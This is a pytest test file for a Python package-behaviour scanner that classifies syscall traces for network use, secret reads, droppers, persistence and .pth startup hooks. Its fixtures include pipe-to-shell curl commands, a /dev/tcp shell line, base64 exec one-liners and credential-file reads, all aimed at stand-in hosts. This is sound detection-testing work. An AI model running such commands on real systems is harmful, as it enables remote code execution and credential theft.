from __future__ import annotations

import pytest

from pyti.reports.model import Finding
from pyti.reports.rules import RULES, PhaseContext, PhaseWatch, stage_of
from pyti.reports.rules.pth import pth_sightings
from pyti.reports.trace import TraceReader

HOME = "/home/tester"
START = '7 1.0 execve("/usr/bin/python3", ["python3"], 0x1) = 0\n'
CONNECT = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (x)\n'  # noqa: E501 - one line of data
LOOKUP = '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.53")}, 16) = -1 ENETUNREACH (x)\n'  # noqa: E501 - one line of data
AWS = f'7 1.5 openat(AT_FDCWD<{HOME}/work>, "{HOME}/.aws/credentials", O_RDONLY) = 3<{HOME}/.aws/credentials>\n'
NETRC = f'7 1.5 openat(AT_FDCWD<{HOME}/work>, "{HOME}/.netrc", O_RDONLY) = 3<{HOME}/.netrc>\n'


def found(
    text: str, task: str = "import", *, own: frozenset[str] = frozenset(), harmful: bool = False
) -> dict[str, Finding]:
    watch = PhaseWatch(PhaseContext(task, task, stage_of(task, task), own=own), harmful_pth=harmful)
    watch.see_all(TraceReader((START + text).encode(), ()).events())
    return {finding.id: finding for finding in watch.findings()}


def created(path: str, result: str = "") -> str:
    return f'7 3.0 openat(AT_FDCWD<{HOME}/work>, "{path}", O_WRONLY|O_CREAT, 0666) = {result or f"3<{path}>"}\n'


def ran(path: str, *argv: str) -> str:
    listed = ", ".join(f'"{word}"' for word in argv)
    return f'7 3.5 clone(child_stack=NULL) = 8\n8 3.6 execve("{path}", [{listed}], 0x1) = 0\n'


def test_the_canary_shows_every_family(canary: bytes) -> None:
    watch = PhaseWatch(PhaseContext("import", "import", "quiet"))
    watch.see_all(TraceReader(canary, ("python3", "-I", "/home/tester/work/canary.py")).events())
    ids = {finding.id for finding in watch.findings()}
    assert ids >= {
        "NET-001",
        "NET-002",
        "NET-003",
        "PROC-002",
        "PROC-003",
        "PROC-005",
        "FILE-001",
        "FILE-002",
        "FILE-003",
    }
    assert ids >= {"SECRET-001", "SECRET-002", "SECRET-003", "KERN-001", "KERN-002", "KERN-003"}
    assert ids >= {"COMBO-001", "COMBO-002", "COMBO-003", "COMBO-004", "COMBO-006"}
    assert ids <= set(RULES)
    for finding in watch.findings():
        assert len(finding.evidence) <= 8
        assert all(line.isprintable() and len(line) <= 300 for line in finding.evidence)


def test_what_python_and_its_library_do_by_themselves_is_nothing() -> None:
    text = (
        f'7 1.1 openat(AT_FDCWD<{HOME}/work>, "/usr/lib/python3.11/__pycache__/x.cpython-311.pyc.12", O_WRONLY|O_CREAT) = -1 EACCES (x)\n'  # noqa: E501 - one line of data
        + created("/dev/null")
        + created("/tmp/abc/x")
        + created(f"{HOME}/work/out.txt")
        + created(f"{HOME}/venv/lib/python3.11/site-packages/a/__pycache__/b.cpython-311.pyc")
        + created(f"{HOME}/.cache/uv/x")
        + '7 2.0 connect(3, {sa_family=AF_INET, sin_port=htons(99), sin_addr=inet_addr("127.0.0.1")}, 16) = 0\n'
        + '7 2.0 connect(3, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (x)\n'
        + '7 2.0 bind(3, {sa_family=AF_INET6, sin6_port=htons(0), inet_pton(AF_INET6, "::1", &sin6_addr)}, 28) = 0\n'
        + f'7 1.5 openat(AT_FDCWD<{HOME}>, "/etc/passwd", O_RDONLY) = 3</etc/passwd>\n'
        + '7 2.0 memfd_create("libffi", MFD_CLOEXEC) = 5</memfd:libffi>(deleted)\n'
        + "7 2.0 kill(7, 0) = 0\n"
    )
    assert found(text) == {}


@pytest.mark.parametrize(
    ("task", "severity"),
    [("import", "high"), ("startup", "high"), ("install", "high"), ("build", "medium"), ("tests", "info")],
)
def test_the_network_weighs_by_phase(task: str, severity: str) -> None:
    assert found(CONNECT, task)["NET-001"].severity == severity


def test_a_name_lookup_weighs_less_than_a_connection() -> None:
    assert {rule: finding.severity for rule, finding in found(LOOKUP).items()} == {"NET-002": "medium"}


def test_secrets_then_network_is_decisive_and_the_other_order_is_not() -> None:
    assert found(AWS + CONNECT)["COMBO-001"].severity == "critical"
    assert "COMBO-001" not in found(CONNECT + AWS)


def test_reading_netrc_before_a_request_is_what_requests_does() -> None:
    assert "COMBO-001" not in found(NETRC + CONNECT)
    assert found(NETRC)["SECRET-001"].severity == "medium"


def test_a_link_to_a_secret_does_not_hide_it() -> None:
    assert "SECRET-001" in found(
        f'7 1.5 openat(AT_FDCWD</tmp>, "/tmp/innocent", O_RDONLY) = 3<{HOME}/.ssh/id_ed25519>\n'
    )


def test_the_installer_may_read_netrc_and_an_impostor_may_not() -> None:
    assert "SECRET-001" not in found(ran("/opt/pyti/tools/bin/uv", "uv") + NETRC.replace("7 1.5", "8 4.0"), "install")
    assert "SECRET-001" in found(ran("/tmp/opt/uv", "uv") + NETRC.replace("7 1.5", "8 4.0"), "install")


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("curl -s http://a.test/x | sh", "COMBO-002"),
        ("bash <(curl http://a.test)", "COMBO-002"),
        ("exec 3<>/dev/tcp/192.0.2.1/9", "COMBO-002"),
        ("wget http://a.test/x", "PROC-002"),
        ("uname -p 2>/dev/null", "PROC-001"),
    ],
)
def test_what_a_shell_is_told_matters(script: str, rule: str) -> None:
    findings = found(ran("/bin/sh", "sh", "-c", script))
    assert rule in findings
    assert findings[rule].severity == {"COMBO-002": "critical", "PROC-002": "high", "PROC-001": "low"}[rule]


@pytest.mark.parametrize("program", ["gcc", "ldconfig", "uname", "git", "lscpu"])
def test_platform_tools_are_only_mentioned(program: str) -> None:
    assert found(ran(f"/usr/bin/{program}", program))["PROC-001"].severity == "info"
    assert found(ran(f"/usr/bin/{program}", program), "build") == {}


def test_encoded_code_in_a_new_interpreter() -> None:
    assert (
        found(ran("/usr/bin/python3", "python3", "-c", "exec(__import__('base64').b64decode('aa'))"))[
            "PROC-004"
        ].severity
        == "high"
    )
    assert (
        found(ran("/usr/bin/python3", "python3", "-Ic", "from multiprocessing.resource_tracker import main;main(3)"))
        == {}
    )


def test_a_dropper_is_recognised() -> None:
    findings = found(CONNECT + created("/tmp/payload") + ran("/tmp/payload", "payload"))
    assert findings["PROC-003"].severity == "high"
    assert findings["COMBO-003"].severity == "critical"
    assert "COMBO-003" not in found(created("/tmp/payload") + ran("/tmp/payload", "payload"))


def test_configure_scripts_run_what_they_compiled() -> None:
    assert "PROC-003" not in {
        k
        for k, f in found(created("/tmp/conftest") + ran("/tmp/conftest", "conftest"), "build").items()
        if f.severity != "info"
    }


@pytest.mark.parametrize(
    "path",
    [
        ".bashrc",
        ".ssh/authorized_keys",
        ".config/systemd/user/a.service",
        ".config/autostart/a.desktop",
        ".local/lib/python3.11/site-packages/usercustomize.py",
    ],
)
def test_persistence(path: str) -> None:
    findings = found(created(f"{HOME}/{path}"))
    assert findings["FILE-002"].severity == "high"
    assert "COMBO-004" in found(created(f"{HOME}/{path}") + CONNECT)


def test_files_that_python_runs_at_start_may_be_installed_but_not_written_on_import() -> None:
    path = f"{HOME}/venv/lib/python3.11/site-packages/evil.pth"
    assert "FILE-002" in found(created(path), "import")
    assert found(created(path), "install") == {}


def test_another_distributions_files() -> None:
    path = f"{HOME}/venv/lib/python3.11/site-packages/other/__init__.py"
    assert found(created(path), own=frozenset({"mine"}))["FILE-004"].severity == "medium"
    assert found(created(path), own=frozenset({"other"})) == {}


def test_a_settings_folder_of_its_own_is_no_suspicion() -> None:
    assert found(created(f"{HOME}/.config/matplotlib/rc"))["FILE-001"].severity == "info"


def test_a_refused_write_to_the_system_counts_less_than_one_that_worked() -> None:
    assert found(created("/etc/cron.d/x", "-1 EACCES (x)"))["FILE-002"].severity == "medium"
    assert found(created("/etc/cron.d/x"))["FILE-002"].severity == "high"


def test_count_goes_on_where_evidence_stops() -> None:
    text = "".join(CONNECT.replace("192.0.2.1", f"192.0.2.{number}") for number in range(1, 101))
    finding = found(text)["NET-001"]
    assert (finding.count, len(finding.evidence)) == (100, 8)


def test_a_child_that_already_ended_is_no_stranger() -> None:
    assert found("7 2.0 fork() = 8\n8 2.1 +++ exited with 0 +++\n7 2.2 kill(8, SIGTERM) = -1 ESRCH (x)\n") == {}


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ("import coverage; coverage.process_startup()", ["PTH-001"]),
        (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",  # noqa: E501 - one line of data
            ["PTH-001"],
        ),
        ("import os;exec(__import__('base64').b64decode('aaaa'))", ["PTH-002"]),
        ("import urllib.request as u; u.urlopen('http://a.test')", ["PTH-002"]),
        ("import x" + " " * 2000, ["PTH-002"]),
        ("../other/src", []),
        ("# import this", []),
    ],
)
def test_pth_lines(line: str, rules: list[str]) -> None:
    assert [sighting.rule for sighting in pth_sightings({"pth": [{"name": "a.pth", "lines": [line]}]})] == rules


def test_harmful_pth_with_network_at_startup_is_decisive() -> None:
    assert found(CONNECT, "startup", harmful=True)["COMBO-005"].severity == "critical"
    assert "COMBO-005" not in found(CONNECT, "startup")


@pytest.mark.parametrize(
    "data", [{}, {"pth": None}, {"pth": [1, None, {}, {"name": 3, "lines": 4}, {"lines": [None, 5]}]}]
)
def test_strange_pth_data_gives_nothing(data: dict[str, object]) -> None:
    assert list(pth_sightings(data)) == []
